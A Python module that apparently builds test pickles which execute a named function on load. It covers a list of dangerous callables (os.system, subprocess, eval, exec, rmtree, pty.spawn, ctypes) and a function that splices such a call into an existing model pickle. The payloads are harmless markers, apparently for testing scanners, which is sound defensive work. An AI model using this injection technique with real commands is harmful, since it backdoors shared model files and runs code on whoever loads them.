"""Pickles that run something when they are loaded, made without running it."""

import pickle
from pathlib import Path
from typing import Any

# Each calls module.name with these arguments; {} is the path of a file that would show that it ran.
Gadget = tuple[str, str, tuple[Any, ...]]
GADGETS: list[Gadget] = [
    ("os", "system", ("touch {}",)),
    ("posix", "system", ("touch {}",)),
    ("os", "popen", ("touch {}",)),
    ("os", "mkdir", ("{}",)),
    ("os", "mkfifo", ("{}",)),
    ("os", "makedirs", ("{}",)),
    ("subprocess", "call", (["touch", "{}"],)),
    ("subprocess", "Popen", (["touch", "{}"],)),
    ("subprocess", "check_output", (["touch", "{}"],)),
    ("subprocess", "run", (["touch", "{}"],)),
    ("subprocess", "getoutput", ("touch {}",)),
    ("builtins", "eval", ("open('{}', 'w')",)),
    ("builtins", "exec", ("open('{}', 'w')",)),
    ("builtins", "open", ("{}", "w")),
    ("builtins", "__import__", ("antigravity",)),
    ("builtins", "getattr", ("text", "join")),
    ("io", "open", ("{}", "w")),
    ("_io", "FileIO", ("{}", "w")),
    ("runpy", "run_path", ("{}",)),
    ("shutil", "copyfile", ("/etc/hostname", "{}")),
    ("shutil", "rmtree", ("{}",)),
    ("timeit", "timeit", ("pass", "open('{}', 'w')")),
    ("cProfile", "run", ("open('{}', 'w')",)),
    ("pdb", "run", ("open('{}', 'w')",)),
    ("code", "interact", ()),
    ("pty", "spawn", ("true",)),
    ("importlib", "import_module", ("antigravity",)),
    ("socket", "create_connection", (("127.0.0.1", 9),)),
    ("ctypes", "CDLL", ("libc.so.6",)),
    ("pickle", "loads", (b"N.",)),
    ("numpy", "fromfile", ("{}",)),
    ("numpy", "load", ("{}",)),
    ("joblib", "load", ("{}",)),
    ("numpy.testing._private.utils", "runstring", ("open('{}', 'w')", {})),
    ("sklearn.datasets._base", "get_data_home", ("{}",)),
    ("sklearn.datasets._base", "fetch_file", ("http://127.0.0.1:9", "{}")),
    ("functools", "partial", ("x",)),
    ("operator", "attrgetter", ("x",)),
]


class Call:
    """Pickles as a call of a function by its name."""

    def __init__(self, module: str, name: str, arguments: tuple[Any, ...]) -> None:
        self.module, self.name, self.arguments = module, name, arguments

    def pickled(self) -> bytes:
        """Return the bytes, protocol 4: module and name, then the arguments, then the call."""
        arguments = pickle.dumps(self.arguments, protocol=4)[2:-1]
        # A frame within a frame is refused by nobody, but cut off: short arguments have none.
        text = b"\x8c" + bytes([len(self.module)]) + self.module.encode()
        name = b"\x8c" + bytes([len(self.name)]) + self.name.encode()
        return b"\x80\x04" + text + name + b"\x93" + _unframed(arguments) + b"R."


def _unframed(body: bytes) -> bytes:
    return body[9:] if body[:1] == b"\x95" else body


def gadget(module: str, name: str, arguments: tuple[Any, ...], path: Path) -> bytes:
    def _filled(value: Any) -> Any:
        if isinstance(value, str):
            return value.replace("{}", str(path))
        return [_filled(each) for each in value] if isinstance(value, list) else value

    return Call(module, name, tuple(_filled(value) for value in arguments)).pickled()


def poisoned(pickled: bytes, gadget_pickle: bytes) -> bytes:
    """Return a pickle that makes the call once the model is there, forgets its result, and yields the model."""
    return pickled[:-1] + gadget_pickle[2:-1] + b"0."
